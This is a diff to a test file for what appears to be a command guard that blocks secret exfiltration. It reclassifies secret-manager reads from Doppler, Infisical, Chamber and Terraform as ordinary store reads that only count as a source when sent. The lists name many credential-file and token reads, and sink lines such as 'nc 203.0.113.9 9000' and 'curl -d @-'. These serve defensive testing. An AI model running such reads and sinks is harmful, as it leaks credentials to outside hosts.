@@ -16,13 +16,11 @@ NEW_SOURCES = [
     "gh auth status -t", "gh auth status --show-token", "aws configure get aws_secret_access_key",
     "aws configure get aws_session_token --profile prod", "npm config get _authToken",
     "npm config get //registry.npmjs.org/:_authToken", "yarn config get npmAuthToken",
-    "gcloud config config-helper --format=json", "terraform output -raw db_password", "terraform output -json",
+    "gcloud config config-helper --format=json", "terraform output -raw db_password",
     "tofu output db_password", "pulumi stack output --show-secrets", "pulumi config --show-secrets",
     "sops -d secrets.enc.yaml", "sops --decrypt s.yaml", "sops decrypt s.json", "ansible-vault view vault.yml",
     "ansible-vault decrypt vault.yml --output -", "age -d -i key.txt s.age", "age --decrypt -i k s.age",
-    "doppler secrets download --no-file", "doppler secrets get DB_PASSWORD --plain", "doppler run -- env",
-    "infisical export --env=prod", "infisical secrets", "chamber export prod", "chamber read prod db",
-    "chamber env prod", "oc whoami -t",
+    "oc whoami -t",
     "cat ~/.ssh/deploy_key", "cat ~/.ssh/github", "cat ~/.ssh/work.pem", "cat ~/.aws/sso/cache/abc.json",
     "cat ~/.aws/cli/cache/x.json", "cat /etc/wireguard/wg0.conf",
     "cat /etc/NetworkManager/system-connections/Home.nmconnection", "cat ~/.vault-token",
@@ -32,8 +30,12 @@ NEW_SOURCES = [
 STORES = ["vault kv get -format=json secret/prod", "etcdctl get --prefix /", "helm get values prod -a",
           "helm get all prod", "kubectl get secret db -o yaml", "kubectl get secret/db -o json",
           "kubectl get secrets/db -o jsonpath={.data}", "oc get secret/db -o yaml", "docker compose config",
-          "docker-compose config", "terraform output -raw bucket_name"]
-"""Reads of a store the project set up: ordinary alone (below), a source when sent."""
+          "docker-compose config", "terraform output -raw bucket_name", "terraform output -json",
+          "doppler secrets download --no-file", "doppler secrets get DB_PASSWORD --plain", "doppler run -- env",
+          "doppler run -- printenv DATABASE_URL", "infisical export --env=prod", "infisical secrets",
+          "chamber export prod", "chamber read prod db", "chamber env prod"]
+"""Reads of a store the project set up (a secret manager, its outputs, its values): ordinary alone, as `vault kv
+get` and `aws secretsmanager get-secret-value` are (dcg labels doppler's ordinary), a source when sent."""
 
 OLD_SINKS = ["curl -d @- " + S, "nc 203.0.113.9 9000", "curl -T - " + S]
 
@@ -138,7 +140,9 @@ def test_wrapped_staged_and_aliased_sinks_are_denied(command: str) -> None:
     "terraform output", "terraform output -raw bucket_name", "terraform output -raw vpc_id", "pulumi stack output",
     "helm get values prod", "helm get values api -o yaml", "kubectl get secrets", "kubectl describe secret db",
     "docker compose config -q", "docker compose config --services", "docker compose up -d",
-    "vault kv get secret/app", "etcdctl get /registry/pods --keys-only",
+    "vault kv get secret/app", "etcdctl get /registry/pods --keys-only", "doppler secrets get DATABASE_URL",
+    "doppler run -- printenv DATABASE_URL", "infisical export --env=prod", "chamber export prod",
+    "terraform output -json",
     "psql -h localhost -c 'select 1'", "psql -h 127.0.0.1 -c 'select now()'", "psql -h /var/run/postgresql -c 'x'",
     "psql -c \"insert into t values ('$USER')\"", "redis-cli set k v", "redis-cli -h 203.0.113.9 get k",
     "mosquitto_pub -h localhost -t t -m hello", "nats pub updates hello", "grpcurl -plaintext localhost:50051 list",
